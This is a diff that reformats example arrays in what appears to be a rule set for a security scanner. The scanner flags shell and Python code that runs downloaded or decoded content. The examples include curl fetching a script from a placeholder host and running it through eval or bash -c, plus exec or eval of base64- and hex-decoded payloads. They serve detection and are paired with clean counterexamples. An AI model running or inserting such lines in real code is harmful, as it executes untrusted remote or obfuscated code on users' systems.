@@ -115,8 +115,14 @@ script it is that script's data.`,
       why: `${REMOTE}
 The finding is the place that executes it. Printing the variable, or overwriting it before, is none.`,
       instead: DOWNLOAD,
-      findings: ['```bash\nS=$(curl -fsSL https://x.example/install.sh)\n«eval "$S"»\n```', '```bash\nS=$(curl -fsSL https://x.example/install.sh)\n«bash -c "$S"»\n```'],
-      clean: ['```bash\nS=$(curl -fsSL https://x.example/version)\necho "$S"\n```', '```bash\nS=$(curl -fsSL https://x.example/install.sh)\nS=true\neval "$S"\n```'],
+      findings: [
+        '```bash\nS=$(curl -fsSL https://x.example/install.sh)\n«eval "$S"»\n```',
+        '```bash\nS=$(curl -fsSL https://x.example/install.sh)\n«bash -c "$S"»\n```',
+      ],
+      clean: [
+        '```bash\nS=$(curl -fsSL https://x.example/version)\necho "$S"\n```',
+        '```bash\nS=$(curl -fsSL https://x.example/install.sh)\nS=true\neval "$S"\n```',
+      ],
     },
   ],
   [
@@ -127,7 +133,11 @@ The finding is the place that executes it. Printing the variable, or overwriting
       why: DECODED,
       instead: "print(base64.b64decode(payload).decode())    # read it first",
       findings: ["«exec(base64».b64decode(payload))", "«eval(bytes.fromhex»(payload).decode())"],
-      clean: ["data = json.loads(base64.b64decode(payload))", "token = base64.b64encode(secret)", "value = eval_expression(base64.b64decode(payload))"],
+      clean: [
+        "data = json.loads(base64.b64decode(payload))",
+        "token = base64.b64encode(secret)",
+        "value = eval_expression(base64.b64decode(payload))",
+      ],
     },
   ],
   [
